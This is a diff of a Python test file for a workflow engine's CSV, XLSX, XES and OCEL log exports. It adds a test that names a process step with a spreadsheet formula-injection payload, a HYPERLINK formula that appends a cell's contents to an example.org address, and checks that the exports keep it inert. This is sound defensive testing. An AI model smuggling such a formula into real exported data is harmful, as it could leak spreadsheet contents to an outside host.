@@ -20,30 +20,13 @@ from engine.domain import commands as c
 from engine.domain.actors import SYSTEM
 from engine.queries import exports as query
 from engine.queries.exports import Wanted
+from tests.audit import ocel
+from tests.engine.drawn import bpmn, sequence, task
 from tests.office import Office, admin, auditor, clerk, owner
 from tests.webui.pages import REFUND, forge
 from webui import exports
 
 XES = "{http://www.xes-standard.org/}"
-NAMED = {"type": "object", "required": ["name", "attributes"], "properties": {"name": {"type": "string"}, "attributes": {
-    "type": "array", "items": {"type": "object", "required": ["name", "type"]}}}}  # fmt: skip
-RELATED = {"type": "array", "items": {"type": "object", "required": ["objectId", "qualifier"], "additionalProperties": False,
-           "properties": {"objectId": {"type": "string"}, "qualifier": {"type": "string"}}}}  # fmt: skip
-WHEN = {"type": "string", "format": "date-time"}
-#: After the schema of OCEL 2.0 JSON.
-OCEL = {
-    "type": "object",
-    "required": ["eventTypes", "objectTypes", "events", "objects"],
-    "properties": {
-        "eventTypes": {"type": "array", "items": NAMED},
-        "objectTypes": {"type": "array", "items": NAMED},
-        "events": {"type": "array", "items": {"type": "object", "required": ["id", "type", "time"], "properties": {
-            "time": WHEN, "relationships": RELATED, "attributes": {"type": "array", "items": {"required": ["name", "value"]}}}}},
-        "objects": {"type": "array", "items": {"type": "object", "required": ["id", "type"], "properties": {
-            "relationships": RELATED, "attributes": {"type": "array", "items": {
-                "required": ["name", "value", "time"], "properties": {"time": WHEN}}}}}},
-    },
-}  # fmt: skip
 
 
 @pytest.fixture
@@ -216,7 +199,7 @@ def test_xes_has_the_same_traces(office, case):
 
 def test_ocel_is_of_its_schema_and_every_relation_leads_somewhere(office, case):
     log = json.loads(exported(office, "ocel"))
-    jsonschema_rs.Draft202012Validator(OCEL, validate_formats=True).validate(log)
+    jsonschema_rs.Draft202012Validator(ocel.LOG, validate_formats=True).validate(log)
     ids = {one["id"] for one in log["objects"]}
     assert len(ids) == len(log["objects"]) and len({one["id"] for one in log["events"]}) == len(log["events"])
     assert {r["objectId"] for one in log["events"] + log["objects"] for r in one["relationships"]} <= ids
@@ -238,10 +221,22 @@ def test_csv_is_a_row_an_event_and_no_cell_a_formula(office, case):
     assert [safe(cell) for cell in ("=1+1", "-1", "@a", "\tx", "+1", "a=1")] == ["'=1+1", "'-1", "'@a", "'\tx", "'+1", "a=1"]
 
 
-def test_xlsx_has_no_formula(office, case):
+FORMULA = "=HYPERLINK(&quot;http://example.org/&quot;&amp;A1)"
+SAID = '=HYPERLINK("http://example.org/"&A1)'
+
+
+def test_a_step_called_like_a_formula_is_a_formula_nowhere(office):
+    drawn = bpmn(sequence("p", task("a", "front-desk"), path="s > a > e"))
+    office.start(drawn.replace(b'name="a"', f'name="{FORMULA}"'.encode()))
+    rows = list(csv.DictReader(io.StringIO(exported(office, "csv").decode("utf-8-sig"))))
+    assert "'" + SAID in {row["activity"] for row in rows} and not [1 for row in rows if SAID in row.values()]
     with zipfile.ZipFile(io.BytesIO(exported(office, "xlsx"))) as book:
-        sheet = book.read("xl/worksheets/sheet1.xml")
-    assert b"<f>" not in sheet and sheet.count(b"<row ") > 10 and b"TaskCompleted" in sheet
+        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
+        links = [name for name in book.namelist() if "rels" in name and "sheet" in name and b"hyperlink" in book.read(name)]
+    cells = [cell for cell in sheet.iter() if cell.tag.endswith("}c")]
+    assert SAID in {"".join(cell.itertext()) for cell in cells} and len(cells) > 100
+    assert {cell.get("t") for cell in cells} == {"inlineStr"} and links == []
+    assert not [one for one in sheet.iter() if one.tag.endswith(("}f", "}hyperlink"))]
 
 
 def test_filters(office, case):
